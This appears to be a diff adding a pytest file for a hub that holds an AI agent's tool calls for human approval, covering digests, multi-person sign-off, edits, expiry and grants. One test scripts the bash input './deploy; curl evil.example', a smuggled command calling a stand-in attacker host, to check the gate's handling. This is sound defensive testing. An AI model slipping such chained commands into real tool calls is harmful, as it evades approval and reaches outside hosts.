@@ -1,0 +1,735 @@
+"""Requests under the hub: bound to what was shown, by several people, in time, and granted beyond."""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import AsyncIterator
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+
+import pytest
+
+from interlock.engine.agents import Agent, C, ScriptedModel, T, ToolContext, tool
+from interlock.engine.gate.types import GrantTerms
+from interlock.engine.history.decisions.filter import DecisionFilter
+from interlock.engine.history.journal.journal import Journal
+from interlock.engine.history.model.events import (
+    ApprovalDecided,
+    ApprovalExpired,
+    ApprovalExtended,
+    ApprovalGiven,
+    ApprovalRequested,
+    ApprovalWithdrawn,
+    CallDecided,
+    GrantGiven,
+    GrantRevoked,
+    MessageAdded,
+)
+from interlock.engine.history.model.state import ApprovalState
+from interlock.engine.hub.hub import ApprovalPolicy, Hub
+from interlock.rules import compile_rules
+
+from ..support.shop import Shop, bodies, check, start, until
+
+ASK = "require human-approval before deploy"
+TWO = "require 2 human-approvals before deploy"
+
+
+class Clock:
+    """A clock that stands until it is moved."""
+
+    def __init__(self) -> None:
+        self.now = datetime(2026, 3, 14, 12, 0, tzinfo=UTC)
+
+    def __call__(self) -> datetime:
+        return self.now
+
+    def pass_(self, seconds: float) -> None:
+        self.now += timedelta(seconds=seconds)
+
+
+@pytest.fixture
+def shop() -> Shop:
+    return Shop()
+
+
+@pytest.fixture
+def clock() -> Clock:
+    return Clock()
+
+
+@pytest.fixture
+def policy() -> ApprovalPolicy:
+    return ApprovalPolicy()
+
+
+@pytest.fixture
+async def hub(tmp_path: Path, clock: Clock, policy: ApprovalPolicy) -> AsyncIterator[Hub]:
+    hub = Hub(Journal.open(tmp_path / "hub.db", clock=clock), policy=policy)
+    yield hub
+    await hub.close()
+
+
+async def asked(hub: Hub, shop: Shop, *replies: object, rules: str = ASK) -> tuple[str, ApprovalState]:
+    """A session whose first deploy waits for a person, and its request."""
+    events = hub.subscribe()
+    session = await start(hub, shop, *(replies or (C(deploy={}), T("done"))), rules=rules)  # type: ignore[arg-type]
+    await until(events, ApprovalRequested)
+    [request] = await hub.approvals()
+    return session, request
+
+
+async def opened_by(hub: Hub, shop: Shop, by: str, rules: str = TWO) -> tuple[str, ApprovalState]:
+    """A session that somebody started, whose deploy waits."""
+    events = hub.subscribe()
+    agent = Agent(ScriptedModel([C(deploy={}), T("done")]), name="bot", tools=shop.tools())
+    session = await hub.open_session(agent, registry=compile_rules(rules).registry, by=by)
+    await hub.send(session, "go", by=by)
+    await until(events, ApprovalRequested)
+    [request] = await hub.approvals()
+    return session, request
+
+
+class TestDigest:
+    async def test_the_answer_to_what_was_shown_counts(self, hub: Hub, shop: Shop) -> None:
+        """An answer that names the request's digest decides; the record keeps what it was bound to."""
+        session, request = await asked(hub, shop)
+        assert request.digest is not None
+        assert (await hub.decide(request.id, approved=True, by="ada", digest=request.digest)).ok
+        await hub.wait(session)
+        assert shop.ran == ["deploy staging"]
+        assert [d.digest for d in bodies(hub, session, ApprovalDecided)] == [request.digest]
+
+    async def test_an_answer_to_anything_else_does_not(self, hub: Hub, shop: Shop) -> None:
+        """An answer with another digest decides nothing, and the request stays open."""
+        _, request = await asked(hub, shop)
+        outcome = await hub.decide(request.id, approved=True, by="ada", digest="0" * 64)
+        assert (outcome.ok, outcome.message) == (
+            False,
+            "This is not the request that was shown: look again",
+        )
+        assert shop.ran == []
+        assert len(await hub.approvals()) == 1
+
+    async def test_differs_with_the_input(self, hub: Hub, shop: Shop) -> None:
+        """Two calls of one tool have digests of their own."""
+        _, first = await asked(hub, shop, C(deploy={"env": "a"}), T("done"))
+        _, other = await asked_again(hub, shop, C(deploy={"env": "b"}), T("done"))
+        assert first.digest != other.digest
+
+    @pytest.mark.parametrize("how", ["net off", "net on", "mode"])
+    async def test_asks_again_when_the_rules_in_force_change(
+        self, hub: Hub, shop: Shop, how: str
+    ) -> None:
+        """G-67: a switched net or mode voids what was shown, and the call is asked about anew."""
+        rules = f"{ASK}\nblock rm\nblock push"
+        session, request = await asked(hub, shop, rules=rules)
+        events = hub.subscribe()
+        if how == "net on":
+            await hub.toggle_net(session, "block-push", False, by="ben", reason="a test")
+            await until(events, ApprovalRequested)
+            [request] = await hub.approvals()
+        match how:
+            case "net off":
+                await hub.toggle_net(session, "block-rm", False, by="ben", reason="a test")
+            case "net on":
+                await hub.toggle_net(session, "block-push", True, by="ben")
+            case _:
+                await hub.set_mode(session, "shadow", by="ben", reason="a test")
+        await until(events, ApprovalRequested)
+        [again] = await hub.approvals()
+        assert (again.call_id, again.id == request.id) == (request.call_id, False)
+        assert again.digest != request.digest
+        assert shop.ran == []
+        late = await hub.decide(request.id, approved=True, by="ada", digest=request.digest)
+        why = {
+            "net off": "ben turned off block-rm",
+            "net on": "ben turned on block-push",
+            "mode": "ben switched to shadow mode",
+        }[how]
+        assert late.message == f"Withdrawn: {why}; asked again"
+        assert bodies(hub, session, ApprovalWithdrawn)[-1].reason == f"{why}; asked again"
+        await check(hub, session)
+
+    @pytest.mark.parametrize("by", ["", "  "])
+    async def test_more_time_takes_a_name(self, hub: Hub, shop: Shop, by: str) -> None:
+        """Nobody lengthens a request without saying who they are."""
+        session, request = await asked(hub, shop, C(deploy={}), T("done"))
+        outcome = await hub.extend(request.id, seconds=3600, by=by)
+        assert not outcome.ok
+        assert outcome.message == "Not extended: this needs the name of an operator"
+        assert bodies(hub, session, ApprovalExtended) == []
+        await hub.abort(session)
+
+    async def test_counts_once(self, hub: Hub, shop: Shop) -> None:
+        """The answer to a request lets one call pass, not the next one of the same kind."""
+        events = hub.subscribe()
+        session, request = await asked(hub, shop, C(deploy={}), C(deploy={}), T("done"))
+        await until(events, ApprovalRequested)
+        await hub.decide(request.id, approved=True, by="ada", digest=request.digest)
+        await until(events, ApprovalRequested)
+        [second] = await hub.approvals()
+        late = await hub.decide(request.id, approved=True, by="ada", digest=request.digest)
+        assert late.message == "You have approved this: it is recorded"
+        assert not late.ok
+        assert second.digest != request.digest
+        assert shop.ran == ["deploy staging"]
+        await hub.abort(session)
+
+
+async def asked_again(hub: Hub, shop: Shop, *replies: object) -> tuple[str, ApprovalState]:
+    """Another session whose deploy waits."""
+    events = hub.subscribe()
+    session = await start(hub, shop, *replies, rules=ASK)  # type: ignore[arg-type]
+    await until(events, ApprovalRequested)
+    return session, next(a for a in await hub.approvals() if a.session == session)
+
+
+class TestSeveralPeople:
+    async def test_two_must_approve(self, hub: Hub, shop: Shop) -> None:
+        """The call runs once two different people have approved; the record has both."""
+        session, request = await asked(hub, shop, rules=TWO)
+        first = await hub.decide(request.id, approved=True, by="ada", digest=request.digest)
+        assert first.message == "deploy approved by ada (1 of 2); one more person must approve"
+        [waiting] = await hub.approvals()
+        assert (waiting.given, shop.ran) == (("ada",), [])
+        await check(hub, session)
+        assert (await hub.decide(request.id, approved=True, by="ben")).ok
+        await hub.wait(session)
+        assert shop.ran == ["deploy staging"]
+        assert bodies(hub, session, CallDecided)[-1].approved_by == ("ada", "ben")
+        assert [s.transition for s in bodies(hub, session, CallDecided)[-1].steps] == [
+            "person",
+            "person",
+            "approve",
+        ]
+        await check(hub, session)
+
+    async def test_nobody_counts_twice(self, hub: Hub, shop: Shop) -> None:
+        """Who has approved already cannot be the second person."""
+        session, request = await asked(hub, shop, rules=TWO)
+        await hub.decide(request.id, approved=True, by="ada")
+        again = await hub.decide(request.id, approved=True, by="ada")
+        assert (again.ok, again.message) == (
+            False,
+            "ada has approved already: somebody else must approve too",
+        )
+        assert len(bodies(hub, session, ApprovalGiven)) == 1
+        assert shop.ran == []
+
+    async def test_one_is_enough_to_deny(self, hub: Hub, shop: Shop) -> None:
+        """Whoever denies ends it, also after others have approved, and the one who started it may."""
+        session, request = await opened_by(hub, shop, "mia")
+        await hub.decide(request.id, approved=True, by="ada")
+        assert (await hub.decide(request.id, approved=False, by="mia", reason="no")).ok
+        await hub.wait(session)
+        assert shop.ran == []
+
+    async def test_not_who_started_the_session(self, hub: Hub, shop: Shop) -> None:
+        """Whoever started the session does not count among those who must approve its calls."""
+        session, request = await opened_by(hub, shop, "mia")
+        own = await hub.decide(request.id, approved=True, by="mia")
+        assert (own.ok, own.message) == (False, "mia started this session: 2 other people must approve")
+        assert not bodies(hub, session, ApprovalGiven)
+
+    @pytest.mark.parametrize("policy", [ApprovalPolicy(own_approvals=True)])
+    async def test_unless_the_policy_says_so(self, hub: Hub, shop: Shop) -> None:
+        """With own approvals allowed, who started it is one of them."""
+        session, request = await opened_by(hub, shop, "mia")
+        assert (await hub.decide(request.id, approved=True, by="mia")).ok
+        assert (await hub.decide(request.id, approved=True, by="ada")).ok
+        await hub.wait(session)
+        assert shop.ran == ["deploy staging"]
+
+    async def test_who_started_it_alone_may_approve_for_one_person(self, hub: Hub, shop: Shop) -> None:
+        """Where one approval is enough it may be that of whoever started the session."""
+        session, request = await opened_by(hub, shop, "mia", rules=ASK)
+        assert (await hub.decide(request.id, approved=True, by="mia")).ok
+        await hub.wait(session)
+        assert shop.ran == ["deploy staging"]
+
+    async def test_both_at_once(self, hub: Hub, shop: Shop) -> None:
+        """Two people at the same moment are two people."""
+        session, request = await asked(hub, shop, rules=TWO)
+        both = await asyncio.gather(
+            *(hub.decide(request.id, approved=True, by=name) for name in ("ada", "ben"))
+        )
+        assert all(outcome.ok for outcome in both)
+        await hub.wait(session)
+        assert shop.ran == ["deploy staging"]
+
+    async def test_an_edit_is_another_request(self, hub: Hub, shop: Shop) -> None:
+        """What one person edits, everybody approves anew: nobody's yes was for that input."""
+        session, request = await asked(hub, shop, rules=TWO)
+        await hub.decide(request.id, approved=True, by="ada")
+        events = hub.subscribe()
+        edit = await hub.decide(request.id, approved=True, by="ben", input={"env": "prod"})
+        assert edit.ok
+        await until(events, ApprovalRequested)
+        [again] = await hub.approvals()
+        assert (again.input, again.given) == ({"env": "prod"}, ())
+        assert shop.ran == []
+        for name in ("ada", "ben"):
+            assert (await hub.decide(again.id, approved=True, by=name)).ok
+        await hub.wait(session)
+        assert shop.ran == ["deploy prod"]
+        assert bodies(hub, session, CallDecided)[-1].edited
+        await check(hub, session)
+
+    async def test_an_edit_that_the_rule_says_nothing_of(self, hub: Hub, shop: Shop) -> None:
+        """G-67: nobody gets a call past the others by making one of it that the rule does not name."""
+        rules = f'{TWO} when input.env = "prod"'
+        session, request = await asked(hub, shop, C(deploy={"env": "prod"}), T("done"), rules=rules)
+        events = hub.subscribe()
+        assert (await hub.decide(request.id, approved=True, by="ada", input={"env": "other"})).ok
+        await until(events, ApprovalRequested)
+        [again] = await hub.approvals()
+        assert (again.input, again.edited_by, again.people) == ({"env": "other"}, "ada", 2)
+        assert again.note == "the call was edited after the rule had asked"
+        assert (await hub.decide(again.id, approved=True, by="ada")).ok
+        assert shop.ran == []
+        assert (await hub.decide(again.id, approved=True, by="ben")).ok
+        await hub.wait(session)
+        assert shop.ran == ["deploy other"]
+        await check(hub, session)
+
+
+class TestEdit:
+    async def edited(self, hub: Hub, shop: Shop, rules: str = TWO) -> tuple[str, ApprovalState]:
+        """A session whose deploy to `prod` was edited to `staging` by ada, and the request about that."""
+        session, request = await asked(hub, shop, C(deploy={"env": "prod"}), T("done"), rules=rules)
+        events = hub.subscribe()
+        assert (await hub.decide(request.id, approved=True, by="ada", input={"env": "staging"})).ok
+        await until(events, ApprovalRequested)
+        [again] = await hub.approvals()
+        return session, again
+
+    async def anew(self, hub: Hub, session: str) -> ApprovalState:
+        """The request that is asked after a net was switched on or off."""
+        events = hub.subscribe()
+        active = "block-rm" in (await hub.session(session)).active
+        assert (await hub.toggle_net(session, "block-rm", not active, by="eve", reason="for now")).ok
+        await until(events, ApprovalRequested)
+        [request] = await hub.approvals()
+        return request
+
+    async def test_stays_when_something_in_force_changes(self, hub: Hub, shop: Shop) -> None:
+        """G-75: what is asked anew is about the edited input, says by whom, and that is what runs."""
+        session, request = await self.edited(hub, shop, f"{TWO}\nblock rm")
+        for _ in range(2):
+            request = await self.anew(hub, session)
+            assert (request.input, request.original) == ({"env": "staging"}, {"env": "prod"})
+            assert (request.edited_by, request.given) == ("ada", ())
+        for name in ("ben", "cy"):
+            assert (await hub.decide(request.id, approved=True, by=name)).ok
+        await hub.wait(session)
+        assert shop.ran == ["deploy staging"]
+        [decided] = bodies(hub, session, CallDecided)
+        assert (decided.input, decided.edited, decided.edited_by) == ({"env": "staging"}, True, "ada")
+        [call] = (await hub.session(session)).calls.values()
+        assert (call.original, call.edited_by) == ({"env": "prod"}, "ada")
+        told = [m.text for m in bodies(hub, session, MessageAdded) if m.role == "tool"]
+        assert 'A person changed env from "prod" to "staging"' in told[0]
+        await check(hub, session)
+
+    async def test_of_one_of_two_rules(self, hub: Hub, shop: Shop) -> None:
+        """G-75: an edit that one rule's approver made stays while the other rule's request is void."""
+        rules = f"{ASK}\nrequire human-approval before deploy risk high\nblock rm"
+        session, request = await self.edited(hub, shop, rules)
+        assert (request.original, request.edited_by) == ({"env": "prod"}, "ada")
+        request = await self.anew(hub, session)
+        assert (request.input, request.original) == ({"env": "staging"}, {"env": "prod"})
+
+    async def test_denied(self, hub: Hub, shop: Shop) -> None:
+        """G-75: an edit that is denied is denied; the agent's own input does not come back."""
+        session, request = await self.edited(hub, shop)
+        assert (await hub.decide(request.id, approved=False, by="ben")).ok
+        await hub.wait(session)
+        assert shop.ran == []
+        assert not await hub.approvals()
+        [decided] = bodies(hub, session, CallDecided)
+        assert (decided.outcome, decided.edited_by) == ("block", "ada")
+
+    async def test_back_to_the_agents_input(self, hub: Hub, shop: Shop) -> None:
+        """G-75: whoever edits it back has the agent's input asked about, as no edit."""
+        session, request = await self.edited(hub, shop)
+        events = hub.subscribe()
+        assert (await hub.decide(request.id, approved=True, by="ben", input={"env": "prod"})).ok
+        await until(events, ApprovalRequested)
+        [again] = await hub.approvals()
+        assert (again.input, again.original, again.edited_by) == ({"env": "prod"}, None, None)
+        for name in ("ben", "cy"):
+            assert (await hub.decide(again.id, approved=True, by=name)).ok
+        await hub.wait(session)
+        assert shop.ran == ["deploy prod"]
+        assert not bodies(hub, session, CallDecided)[0].edited
+
+    @pytest.mark.parametrize("crashed", ["after the edit", "while asked anew", "between two answers"])
+    async def test_stays_through_a_crash(self, tmp_path: Path, shop: Shop, crashed: str) -> None:
+        """G-75: whoever goes on with the record is asked about what a person chose last."""
+        hub = Hub(Journal.open(tmp_path / "first.db"))
+        two = crashed == "between two answers"
+        rules = f"{ASK}\nrequire human-approval before deploy risk high" if two else TWO
+        session, _ = await self.edited(hub, shop, rules)
+        events = await hub.recorded(session)
+        last = ApprovalDecided if two else ApprovalWithdrawn
+        edit = next(n for n, each in enumerate(events, 1) if isinstance(each.body, last))
+        kept = events if crashed == "while asked anew" else events[:edit]
+        with Journal.open(tmp_path / "second.db") as journal:
+            journal.write(session, *(each.body for each in kept))
+        await hub.close()
+        hub = Hub.open(tmp_path / "second.db")
+        agent = Agent(ScriptedModel([T("done")]), name="bot", tools=shop.tools())
+        asking = hub.subscribe()
+        await hub.resume_session(session, agent, registry=compile_rules(rules).registry, by="zoe")
+        await until(asking, ApprovalRequested)
+        [request] = await hub.approvals()
+        assert (request.input, request.original) == ({"env": "staging"}, {"env": "prod"})
+        assert request.edited_by == "ada"
+        for name in ("ben", "cy"):
+            [request] = await hub.approvals()
+            asking = hub.subscribe()
+            assert (await hub.decide(request.id, approved=True, by=name)).ok
+            if two and name == "ben":
+                await until(asking, ApprovalRequested)
+        await hub.wait(session)
+        assert shop.ran == ["deploy staging"]
+        assert bodies(hub, session, CallDecided)[-1].edited_by == "ada"
+        await check(hub, session)
+        await hub.close()
+
+    async def test_secrets_stay_masked(self, hub: Hub, shop: Shop) -> None:
+        """G-75: the agent's own input is masked as the edited one is."""
+        secret = "sk-proj-" + "Ab3dE5gH7jK9mN1p" * 3
+        _, request = await asked(hub, shop, C(deploy={"env": secret}), T("done"), rules=TWO)
+        events = hub.subscribe()
+        assert (await hub.decide(request.id, approved=True, by="ada", input={"env": "staging"})).ok
+        await until(events, ApprovalRequested)
+        [again] = await hub.approvals()
+        assert again.original is not None
+        assert secret not in str(again)
+        assert again.original["env"] != "staging"
+
+
+class TestTime:
+    RULES = f"{ASK} within 15m"
+
+    async def test_says_until_when(self, hub: Hub, shop: Shop, clock: Clock) -> None:
+        """A request knows when it expires: as its rule has it, or else the policy, or never."""
+        _, request = await asked(hub, shop, rules=self.RULES)
+        assert request.expires == clock.now + timedelta(minutes=15)
+
+    async def test_waits_for_ever_unless_told(self, hub: Hub, shop: Shop) -> None:
+        """Without a rule or policy a request does not expire."""
+        _, request = await asked(hub, shop)
+        assert request.expires is None
+
+    @pytest.mark.parametrize("policy", [ApprovalPolicy(expire=60)])
+    async def test_policy_is_the_default(self, hub: Hub, shop: Shop, clock: Clock) -> None:
+        """Where the rule says nothing the policy does."""
+        _, request = await asked(hub, shop)
+        assert request.expires == clock.now + timedelta(seconds=60)
+
+    @pytest.mark.parametrize("policy", [ApprovalPolicy(expire=0.05)])
+    async def test_denies_when_the_time_is_over(
+        self, hub: Hub, shop: Shop, clock: Clock, policy: ApprovalPolicy
+    ) -> None:
+        """Nobody decides in time: the call is denied with a reason the model reads."""
+        events = hub.subscribe()
+        session, request = await asked(hub, shop)
+        clock.pass_(0.06)
+        await until(events, ApprovalExpired)
+        await hub.wait(session)
+        assert shop.ran == []
+        told = [m.text for m in bodies(hub, session, MessageAdded) if m.role == "tool"][-1]
+        assert told == "deploy was rejected by human review: nobody decided within 0.05 s (<rules>:1)"
+        late = await hub.decide(request.id, approved=True, by="ada")
+        assert late.message == "Too late: nobody decided within 0.05 s (<rules>:1)"
+        await check(hub, session)
+
+    async def test_an_answer_after_it_is_too_late(self, hub: Hub, shop: Shop, clock: Clock) -> None:
+        """When the timer is behind the clock, the clock counts."""
+        session, request = await asked(hub, shop, rules=self.RULES)
+        clock.pass_(900)
+        late = await hub.decide(request.id, approved=True, by="ada")
+        assert not late.ok
+        assert late.message.startswith("Too late: nobody decided within 15 min")
+        assert shop.ran == []
+        await hub.abort(session)
+
+    @pytest.mark.parametrize("policy", [ApprovalPolicy(expire=0.05)])
+    async def test_waits_on_when_the_clock_is_behind_the_timer(
+        self, hub: Hub, shop: Shop, policy: ApprovalPolicy
+    ) -> None:
+        """A timer that rings early, by the journal's clock, denies nothing."""
+        session, request = await asked(hub, shop)
+        await asyncio.sleep(0.2)
+        assert [a.id for a in await hub.approvals()] == [request.id]
+        assert (await hub.decide(request.id, approved=True, by="ada")).ok
+        await hub.wait(session)
+        assert shop.ran == ["deploy staging"]
+
+    async def test_can_be_extended(self, hub: Hub, shop: Shop, clock: Clock) -> None:
+        """More time is counted from now, is in the record, and lets a later answer count."""
+        session, request = await asked(hub, shop, rules=self.RULES)
+        clock.pass_(600)
+        outcome = await hub.extend(request.id, seconds=900, by="ben")
+        assert (outcome.ok, outcome.message) == (True, "deploy has 15 min from now")
+        assert (await hub.approvals())[0].expires == clock.now + timedelta(seconds=900)
+        [event] = bodies(hub, session, ApprovalExtended)
+        assert event.by == "ben"
+        clock.pass_(600)
+        assert (await hub.decide(request.id, approved=True, by="ada")).ok
+        await hub.wait(session)
+        assert shop.ran == ["deploy staging"]
+
+    async def test_can_be_let_wait(self, hub: Hub, shop: Shop) -> None:
+        """Without an end a request waits until somebody decides."""
+        _, request = await asked(hub, shop, rules=self.RULES)
+        assert (await hub.extend(request.id, seconds=None, by="ben")).ok
+        assert (await hub.approvals())[0].expires is None
+
+    @pytest.mark.parametrize("seconds", [0, -1, 1e9, float("nan")])
+    async def test_no_length_of_time(self, hub: Hub, shop: Shop, seconds: float) -> None:
+        """What is no length of time changes nothing."""
+        _, request = await asked(hub, shop, rules=self.RULES)
+        assert not (await hub.extend(request.id, seconds=seconds, by="ben")).ok
+        assert (await hub.approvals())[0].expires == request.expires
+
+    async def test_what_is_over_is_not_extended(self, hub: Hub, shop: Shop, clock: Clock) -> None:
+        """Neither an expired request nor one that nobody asked is given more time."""
+        _, request = await asked(hub, shop, rules=self.RULES)
+        clock.pass_(901)
+        assert not (await hub.extend(request.id, seconds=60, by="ben")).ok
+        assert not (await hub.extend("nothing", seconds=60, by="ben")).ok
+
+
+class TestGrants:
+    THRICE = (C(deploy={}), C(deploy={}), C(deploy={"env": "prod"}), T("done"))
+
+    async def test_lets_later_calls_pass(self, hub: Hub, shop: Shop) -> None:
+        """A granted approval is asked once; calls it lets pass say so, and so do the nets."""
+        session, request = await asked(hub, shop, *(C(deploy={}),) * 3, T("done"))
+        outcome = await hub.decide(
+            request.id, approved=True, by="ada", grant=GrantTerms("names", uses=2), reason="often"
+        )
+        assert outcome.ok
+        await hub.wait(session)
+        assert shop.ran == ["deploy staging"] * 3
+        assert [d.granted for d in bodies(hub, session, CallDecided)] == [(), ("grant-1",), ("grant-1",)]
+        [given] = bodies(hub, session, GrantGiven)
+        assert (given.by, given.grant.uses, given.grant.asks) == ("ada", 2, "approve-before-deploy")
+        state = (await hub.session(session)).grants["grant-1"]
+        assert state.net.marking == {"granted": 0, "used": 2, "ended": 0}
+        await check(hub, session)
+
+    async def test_another_value_that_no_map_reads(self, hub: Hub, shop: Shop) -> None:
+        """A grant by names is about the values that were shown, where no map gives them a name (G-74)."""
+        events = hub.subscribe()
+        session, request = await asked(hub, shop, *self.THRICE)
+        await hub.decide(request.id, approved=True, by="ada", grant=GrantTerms("names"), reason="often")
+        await until(events, ApprovalRequested)
+        await until(events, ApprovalRequested)
+        [again] = await hub.approvals()
+        assert (again.input, shop.ran) == ({"env": "prod"}, ["deploy staging", "deploy staging"])
+        await hub.abort(session)
+
+    async def test_for_one_input_only(self, hub: Hub, shop: Shop) -> None:
+        """A grant for an exact input asks again about any other."""
+        events = hub.subscribe()
+        session, request = await asked(hub, shop, *self.THRICE)
+        await hub.decide(request.id, approved=True, by="ada", grant=GrantTerms("input"), reason="often")
+        await until(events, ApprovalRequested)
+        await until(events, ApprovalRequested)
+        [again] = await hub.approvals()
+        assert (again.input, shop.ran) == ({"env": "prod"}, ["deploy staging", "deploy staging"])
+        assert bodies(hub, session, GrantGiven)[0].input == {}
+        await hub.abort(session)
+
+    async def test_ends_when_it_is_revoked(self, hub: Hub, shop: Shop) -> None:
+        """After a grant is revoked the next call is asked about, and the record says by whom."""
+        events = hub.subscribe()
+        session, request = await asked(hub, shop, C(deploy={}), T("first"), C(deploy={}), T("done"))
+        await hub.decide(request.id, approved=True, by="ada", grant=GrantTerms("names"), reason="often")
+        await hub.wait(session)
+        assert (await hub.revoke_grant(session, "grant-1", by="ben")).message == "grant-1 revoked by ben"
+        assert not (await hub.revoke_grant(session, "grant-1", by="ben")).ok
+        await hub.send(session, "again", by="ada")
+        await until(events, ApprovalRequested)
+        await until(events, ApprovalRequested)
+        assert [r.by for r in bodies(hub, session, GrantRevoked)] == ["ben"]
+        assert shop.ran == ["deploy staging"]
+        await hub.abort(session)
+        await hub.wait(session)
+        await check(hub, session)
+
+    async def test_ends_with_its_time(self, hub: Hub, shop: Shop, clock: Clock) -> None:
+        """By the journal's clock a grant of half an hour is over after half an hour."""
+        events = hub.subscribe()
+        replies = (C(deploy={}), T("first"), C(deploy={}), T("second"), C(deploy={}), T("done"))
+        session, request = await asked(hub, shop, *replies)
+        grant = GrantTerms("names", seconds=1800)
+        await hub.decide(request.id, approved=True, by="ada", grant=grant, reason="often")
+        await hub.wait(session)
+        clock.pass_(1700)
+        await hub.send(session, "again", by="ada")
+        await hub.wait(session)
+        assert shop.ran == ["deploy staging"] * 2
+        clock.pass_(200)
+        await until(events, ApprovalRequested)
+        await hub.send(session, "again", by="ada")
+        await until(events, ApprovalRequested)
+        assert shop.ran == ["deploy staging"] * 2
+        await hub.abort(session)
+        await hub.wait(session)
+        await check(hub, session)
+
+    @pytest.mark.parametrize("rules", [f"{ASK} risk high no grants", TWO])
+    async def test_not_where_the_rule_forbids_it(self, hub: Hub, shop: Shop, rules: str) -> None:
+        """A rule may forbid grants, and one for several people gives none; nothing is decided then."""
+        _, request = await asked(hub, shop, rules=rules)
+        assert not request.may_grant
+        outcome = await hub.decide(
+            request.id, approved=True, by="ada", grant=GrantTerms("names"), reason="often"
+        )
+        assert (outcome.ok, shop.ran) == (False, [])
+        assert len(await hub.approvals()) == 1
+
+    async def test_takes_a_reason(self, hub: Hub, shop: Shop) -> None:
+        """G-67: without a reason nothing is granted, nor approved; with one the record has it."""
+        session, request = await asked(hub, shop, *(C(deploy={}),) * 2, T("done"))
+        for reason in (None, "", "  "):
+            refused = await hub.decide(
+                request.id, approved=True, by="ada", grant=GrantTerms("names"), reason=reason
+            )
+            assert (refused.ok, "say why" in refused.message) == (False, True)
+        assert shop.ran == []
+        given = await hub.decide(
+            request.id, approved=True, by="ada", grant=GrantTerms("names"), reason="release night"
+        )
+        assert given.ok
+        await hub.wait(session)
+        assert [body.reason for body in bodies(hub, session, GrantGiven)] == ["release night"]
+        assert (await hub.session(session)).grants["grant-1"].reason == "release night"
+        found = await hub.scan_decisions(DecisionFilter(kinds=("grant",), people=("ada",)))
+        [row] = await hub.read_decisions(DecisionFilter(kinds=("grant",)), found.parts[0])
+        assert row.input.endswith(": release night")
+        await check(hub, session)
+
+    async def test_of_high_risk_not_by_who_started_it(self, hub: Hub, shop: Shop) -> None:
+        """G-67: what it takes others to turn off others must grant; a single call anybody approves."""
+        _, request = await opened_by(hub, shop, "mia", f"{ASK} risk high")
+        terms = GrantTerms("names")
+        own = await hub.decide(request.id, approved=True, by="MIA", grant=terms, reason="often")
+        assert (own.ok, "another person must grant" in own.message, shop.ran) == (False, True, [])
+        assert (await hub.decide(request.id, approved=True, by="ada", grant=terms, reason="often")).ok
+
+    async def test_by_names_only_what_names_tell(self, hub: Hub, shop: Shop) -> None:
+        """A shell command that runs more than its effects name is granted with its exact input only."""
+        rules = "map bash.command ./deploy as deploy\nrequire human-approval before deploy"
+        events = hub.subscribe()
+        ran: list[str] = []
+
+        @tool(name="bash")
+        async def bash(ctx: ToolContext, command: str) -> str:
+            """Run a command."""
+            ran.append(command)
+            return "ok"
+
+        more, plain = "./deploy; curl evil.example", "./deploy prod"
+        calls = [C(bash={"command": text}) for text in (more, plain, "./deploy stage", more)]
+        agent = Agent(ScriptedModel([*calls, T("done")]), name="bot", tools=[bash])
+        session = await hub.open_session(agent, registry=compile_rules(rules).registry)
+        await hub.send(session, "go", by="mia")
+        await until(events, ApprovalRequested)
+        [request] = await hub.approvals()
+        assert request.exact_only == "the command runs more than its effects name"
+        outcome = await hub.decide(
+            request.id, approved=True, by="ada", grant=GrantTerms("names"), reason="often"
+        )
+        assert (outcome.ok, ran) == (
+            False,
+            [],
+        )
+        assert outcome.message == (
+            "Only this exact input can be granted: the command runs more than its effects name"
+        )
+        assert (await hub.decide(request.id, approved=True, by="ada")).ok
+        await until(events, ApprovalRequested)
+        [request] = await hub.approvals()
+        assert (
+            await hub.decide(
+                request.id, approved=True, by="ada", grant=GrantTerms("names"), reason="often"
+            )
+        ).ok
+        await until(events, ApprovalRequested)
+        assert ran == [more, plain, "./deploy stage"]
+        await hub.abort(session)
+
+    async def test_goes_on_with_the_session(self, hub: Hub, shop: Shop) -> None:
+        """A resumed session has its grants with the uses that were left."""
+        replies = (C(deploy={}), T("one"), C(deploy={}), T("two"), C(deploy={}), T("three"))
+        session, request = await asked(hub, shop, *replies[:2])
+        await hub.decide(
+            request.id, approved=True, by="ada", grant=GrantTerms("names", uses=1), reason="often"
+        )
+        await hub.wait(session)
+        await hub.close_session(session, by="ada")
+        agent = Agent(ScriptedModel(list(replies[2:])), name="bot", tools=shop.tools())
+        await hub.resume_session(session, agent, registry=compile_rules(ASK).registry, by="ada")
+        await check(hub, session)
+        await hub.send(session, "again", by="ada")
+        await hub.wait(session)
+        assert shop.ran == ["deploy staging"] * 2
+        events = hub.subscribe()
+        await hub.send(session, "again", by="ada")
+        await until(events, ApprovalRequested)
+        assert shop.ran == ["deploy staging"] * 2
+        await hub.abort(session)
+        await hub.wait(session)
+        await check(hub, session)
+
+    async def test_ends_when_the_rule_says_something_else(self, hub: Hub, shop: Shop) -> None:
+        """A session that goes on under a rule with other words has no grant that the former gave."""
+        session, request = await asked(hub, shop)
+        await hub.decide(request.id, approved=True, by="ada", grant=GrantTerms("names"), reason="often")
+        await hub.wait(session)
+        await hub.close_session(session, by="ada")
+        events = hub.subscribe()
+        agent = Agent(ScriptedModel([C(deploy={}), T("done")]), name="bot", tools=shop.tools())
+        stricter = compile_rules(f"{ASK} risk high").registry
+        await hub.resume_session(session, agent, registry=stricter, by="ada")
+        await hub.send(session, "again", by="ada")
+        await until(events, ApprovalRequested)
+        assert shop.ran == ["deploy staging"]
+        await hub.abort(session)
+
+
+class TestStop:
+    async def test_denied_and_stopped(self, hub: Hub, shop: Shop) -> None:
+        """Denying with a stop ends the agent's run as well; the session stays."""
+        session, request = await asked(hub, shop, C(deploy={}), C(deploy={}), T("done"))
+        outcome = await hub.decide(request.id, approved=False, by="ada", reason="enough", stop=True)
+        assert (outcome.ok, outcome.message) == (True, f"deploy denied by ada; {session} stopped")
+        await hub.wait(session)
+        assert shop.ran == []
+        assert len(bodies(hub, session, ApprovalRequested)) == 1
+        assert (await hub.session(session)).status == "idle"
+
+
+class TestWindow:
+    async def test_uses_come_back(self, hub: Hub, shop: Shop, clock: Clock) -> None:
+        """A limit per hour blocks the third deploy, and lets it pass when the first is an hour old."""
+        replies = [C(deploy={}), C(deploy={}), C(deploy={}), T("a"), C(deploy={}), T("b")]
+        session = await start(hub, shop, *replies, rules="limit deploy to 2 per 1h")
+        await hub.wait(session)
+        assert len(shop.ran) == 2
+        await check(hub, session)
+        clock.pass_(3600)
+        await hub.send(session, "again", by="ada")
+        await hub.wait(session)
+        assert len(shop.ran) == 3
